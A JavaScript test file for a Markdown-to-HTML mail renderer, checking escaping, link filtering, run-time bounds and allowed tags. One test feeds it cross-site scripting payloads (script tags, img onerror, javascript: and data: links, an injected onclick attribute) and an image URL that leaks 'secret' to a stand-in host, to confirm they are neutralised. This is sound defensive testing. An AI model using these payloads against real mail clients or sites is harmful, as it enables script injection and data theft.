import { expect } from "chai";
import fc from "fast-check";
import { markdownHtml } from "./markdown-html.js";

describe("Markdown as HTML of a mail", () => {
  it("shows what models write", () => {
    const html = markdownHtml("# A\n\n**b** and `c<d>`\n\n- e\n\n| f | g |\n|---|---|\n| 1 | 2 |\n\n```js\nx < y\n```\n\n[h](https://example.com/?a=1&b=2)");
    for (const piece of [
      "<h1>A</h1>",
      "<strong>b</strong>",
      "<code>c&lt;d&gt;</code>",
      "<li>e</li>",
      "<td>1</td>",
      "x &lt; y",
      'href="https://example.com/?a=1&#38;b=2"',
    ])
      expect(html).to.contain(piece);
  });

  it("shows HTML as text, fetches no image, and links to the web and mail only", () => {
    const html = markdownHtml(
      '<script>alert(1)</script>\n\na <img src=x onerror=alert(1)> b\n\n![x](https://evil.test/p?q=secret)\n\n[y](javascript:alert(1)) [z](data:text/html,x) <javascript:alert(1)> [w](JaVaScRiPt:alert(1))\n\n[v](https://a.test/"onclick="alert(1))',
    );
    expect(html).to.not.match(/<script|<img|href="(?!https?:|mailto:)|javascript:alert\(1\)"|"onclick=/i);
    expect(html).to.contain('<a href="https://evil.test/p?q=secret"');
  });

  it("shows as it is what cannot be rendered, in bounded time", () => {
    for (const part of ["> ", "1. ", "**a", "[a]["]) {
      const text = part.repeat(100_000 / part.length);
      const started = performance.now();
      const html = markdownHtml(text);
      expect(performance.now() - started, part).to.be.below(3_000);
      expect(html.length, part).to.be.above(1_000);
    }
    expect(markdownHtml(`${"> ".repeat(50_000)}<b>`)).to.match(/^<pre style="white-space:pre-wrap">&#62; .*&#60;b&#62;<\/pre>$/);
  });

  it("lets no tag through that is not made of Markdown", () => {
    const unit = fc.constantFrom(..."<>\"'&`*[]()!/= \n\\a".split(""), "<img ", "onerror=", "javascript:", "<a href", "&#60;", "https://x.test/", "|--|\n");
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 30 }), (parts) => {
        const tags = [...markdownHtml(parts.join("")).matchAll(/<([^>]*)>/g)].map((tag) => tag[1]!);
        for (const tag of tags)
          expect(tag).to.match(
            /^(\/?(p|em|strong|del|code|pre|blockquote|ul|ol|li|h\d|hr|br|table|thead|tbody|tr|th|td|a)\/?|a href="(https?:\/\/|mailto:)[^"<>]*" rel="noreferrer"|code class="language-[^"<>]*"|ol start="\d+"|t[hd] align="\w+")$/,
          );
      }),
      { numRuns: 500 },
    );
  });
});
